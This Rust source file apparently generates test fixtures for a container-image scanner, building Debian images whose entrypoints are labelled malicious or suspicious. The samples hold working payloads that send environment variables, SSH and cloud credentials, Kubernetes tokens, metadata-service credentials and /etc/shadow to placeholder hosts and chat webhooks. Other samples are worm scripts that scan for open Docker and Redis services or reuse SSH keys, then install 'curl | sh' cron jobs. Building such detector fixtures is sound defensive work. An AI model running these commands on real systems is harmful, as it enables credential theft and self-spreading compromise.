//! What is read of secrets and sent away; what looks for others to infect.

use crate::group;
use crate::shape::{Planted, Shape, malicious, suspicious};

fn started(script: &str) -> Planted {
    Planted::debian().script("docker-entrypoint.sh", script).entry(&["/docker-entrypoint.sh"]).cmd(&[
        "python3",
        "-m",
        "http.server",
    ])
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "theft and spread",
        vec![
            malicious("environment sent away", |s| {
                started(s.pick(
                "#!/bin/sh\nenv | base64 -w0 | curl -s -X POST --data-binary @- https://collect.example/e\nexec \"$@\"\n",
                "#!/bin/sh\nprintenv | gzip | nc 203.0.113.50 9000\nexec \"$@\"\n",
            ))
            }),
            malicious("many stores of credentials, and a sink", |s| {
                started(s.pick(
                "#!/bin/bash\nfor f in ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config ~/.docker/config.json ~/.npmrc; do [ -f $f ] && cat $f >> /tmp/.o; done\ncurl -s -F f=@/tmp/.o https://203.0.113.51/u\nexec \"$@\"\n",
                "#!/bin/sh\ntar czf - /root/.ssh /root/.aws /root/.config/gcloud /root/.git-credentials 2>/dev/null | curl -T - http://203.0.113.51/up\nexec \"$@\"\n",
            ))
            }),
            malicious("the same in Python", |s| {
                Planted::debian().file("main.py", s.pick(
                "import os, json, urllib.request\nout = {}\nfor p in ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.kube/config', '~/.docker/config.json']:\n    try:\n        out[p] = open(os.path.expanduser(p)).read()\n    except OSError:\n        pass\nurllib.request.urlopen('https://203.0.113.51/u', data=json.dumps(out).encode())\n",
                "import glob, requests\nfiles = glob.glob('/root/.ssh/*') + glob.glob('/root/.aws/*') + glob.glob('/root/.config/gcloud/*') + glob.glob('/root/.kube/config')\nfor f in files:\n    requests.post('http://203.0.113.51/u', data=open(f, 'rb').read())\n",
            )).entry(&["python3", "/main.py"])
            }),
            suspicious("credentials of the cloud's metadata service sent away", |s| {
                started(s.pick(
                "#!/bin/sh\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s -d @- https://collect.example/c\nexec \"$@\"\n",
                "#!/bin/sh\nwget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > /tmp/c; wget -q --post-file=/tmp/c http://203.0.113.52/c\nexec \"$@\"\n",
            ))
            }),
            suspicious("service account token sent away", |s| {
                started(s.pick(
                "#!/bin/sh\ncat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -d @- https://203.0.113.53/t\nexec \"$@\"\n",
                "#!/bin/sh\nT=$(cat /run/secrets/kubernetes.io/serviceaccount/token)\ncurl -s \"http://203.0.113.53/t?x=$T\"\nexec \"$@\"\n",
            ))
            }),
            suspicious("other processes' secrets", |s| {
                started(s.pick(
                "#!/bin/bash\nfor e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $e | grep -iE 'key|token|secret'; done | curl -s -d @- https://collect.example/p\nexec \"$@\"\n",
                "#!/bin/sh\ncat /proc/*/environ | strings | grep AWS_ > /tmp/a; curl -F a=@/tmp/a http://203.0.113.54/\nexec \"$@\"\n",
            ))
            }),
            malicious("worm over open container engines", |s| {
                started(s.pick(
                "#!/bin/bash\nmasscan 0.0.0.0/0 -p2375 --rate 50000 -oL /tmp/l\nfor h in $(awk '/open/{print $4}' /tmp/l); do docker -H tcp://$h:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c 'curl http://203.0.113.55/x|sh'; done\n",
                "#!/bin/bash\nwhile true; do r=$((RANDOM%256)).$((RANDOM%256)); zmap -p 2375 $r.0.0/16 -o /tmp/o; while read h; do docker -H $h:2375 run -v /:/host busybox sh -c 'echo \"* * * * * root curl http://203.0.113.55/x|sh\" >> /host/etc/crontab'; done < /tmp/o; done\n",
            ))
            }),
            malicious("worm over open databases", |s| {
                started(s.pick(
                "#!/bin/bash\nmasscan 10.0.0.0/8 -p6379 -oL /tmp/r\nfor h in $(awk '{print $4}' /tmp/r); do redis-cli -h $h config set dir /var/spool/cron; redis-cli -h $h config set dbfilename root; redis-cli -h $h save; done\n",
                "#!/bin/sh\nfor i in $(seq 1 254); do for k in /root/.ssh/id_*; do ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i $k root@192.168.1.$i 'curl http://203.0.113.55/x | sh' & done; done\n",
            ))
            }),
            suspicious("file sent to a chat bot", |s| {
                started(s.pick(
                "#!/bin/sh\ncurl -s -F document=@/etc/shadow https://api.telegram.org/bot1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendDocument?chat_id=1\nexec \"$@\"\n",
                "#!/bin/sh\nid > /tmp/i; hostname >> /tmp/i; cat /etc/shadow >> /tmp/i; curl -s -F file=@/tmp/i https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_abcd\nexec \"$@\"\n",
            ))
            }),
        ],
    )
}
